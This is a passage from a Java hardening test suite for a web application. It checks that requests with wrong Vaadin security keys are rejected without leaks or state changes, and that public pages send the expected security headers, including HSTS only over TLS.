        Fixtures.actAsNobody();
        var page = browser.get("/");
        assertThat(page.statusCode()).isEqualTo(200);
        for (String key : List.of("", "wrong", "00000000-0000-0000-0000-000000000000")) {
            var response = raw(
                    "POST",
                    "/?v-r=uidl&v-uiId=0",
                    uidl.replace("00000000-0000-0000-0000-000000000000", key).getBytes(StandardCharsets.UTF_8),
                    "application/json",
                    Map.of(
                            "Cookie",
                            "JSESSIONID=" + browser.plain.cookie("JSESSIONID").orElseThrow(),
                            "Vaadin-Security-Key",
                            key));
            assertThat(response).isNotNull();
            assertThat(response.statusCode()).as("key '" + key + "'").isLessThan(500);
            Hardening.assertNoLeak(asString(response));
            assertThat(new String(response.body(), StandardCharsets.UTF_8))
                    .as("no new state sent back for a request with a wrong key")
                    .doesNotContain("\"changes\":[{");
        }
        assertThat(login.statusCode()).isEqualTo(200);
        assertThat(Hardening.rowCounts(jdbc)).isEqualTo(before);
    }

    // --- security headers ---------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/letters",
                "/letters/no-such-letter",
                "/letters/no-such-letter.pdf",
                "/verify",
                "/.well-known/undersigned-signing-key",
                "/sign/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                "/sign/review",
                "/actuator/health",
                "/styles/public.css",
                "/login",
                "/signup",
                "/no-such-page"
            })
    void everyPublicResponseCarriesTheSecurityHeaders(String path) {
        var browser = new PlainBrowser(port);
        var plain = browser.get(path);
        Hardening.assertNoLeak(plain);
        boolean vaadin = path.equals("/login") || path.equals("/signup") || path.equals("/no-such-page");
        Hardening.assertSecurityHeaders(plain, vaadin);
        assertThat(plain.headers().firstValue("Strict-Transport-Security"))
                .as("no HSTS over plain HTTP")
                .isEmpty();
        // Behind the TLS-terminating proxy (decision 0060): HSTS.
        var secure = raw("GET", path, null, null, Map.of("X-Forwarded-Proto", "https"));
        assertThat(secure).isNotNull();
        assertThat(secure.headers().firstValue("Strict-Transport-Security"))
                .as(path + " over TLS")
                .hasValueSatisfying(v -> assertThat(v).contains("max-age=31536000"));
    }

    // --- plumbing ----------------------------------------------------------------------------------

    private static void check(HttpResponse<String> response) {
        Hardening.assertNoLeak(response);
        Hardening.assertSecurityHeaders(response, false);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] c = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, c, a.length, b.length);
        return c;
    }

    private HttpResponse<byte[]> raw(
            String method, String path, byte[] body, String type, Map<String, String> headers) {
        var client = HttpClient.newBuilder()
                .followRedirects(HttpClient.Redirect.NEVER)
                .connectTimeout(Duration.ofSeconds(10))
                .build();
        var builder = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .timeout(Duration.ofSeconds(60))
                .header("Origin", "http://127.0.0.1:" + port)
                .method(
                        method,
                        body == null
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofByteArray(body));
        if (type != null) {
            builder.header("Content-Type", type);
        }
        headers.forEach((k, v) -> {
            if (!v.isEmpty()) {
                builder.header(k, v);
            }
        });
        try {
            return client.send(builder.build(), HttpResponse.BodyHandlers.ofByteArray());
        } catch (IOException e) {
            return null;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static HttpResponse<String> asString(HttpResponse<byte[]> r) {
        String body = new String(r.body(), StandardCharsets.UTF_8);
        return new HttpResponse<>() {
            public int statusCode() {
                return r.statusCode();
            }

            public HttpRequest request() {
                return r.request();
            }

            public java.util.Optional<HttpResponse<String>> previousResponse() {
                return java.util.Optional.empty();
            }

            public java.net.http.HttpHeaders headers() {
                return r.headers();
            }

            public String body() {
                return body;
            }

            public java.util.Optional<javax.net.ssl.SSLSession> sslSession() {
                return java.util.Optional.empty();
            }

            public URI uri() {
                return r.uri();
            }

            public HttpClient.Version version() {
                return r.version();
            }
        };
    }
}
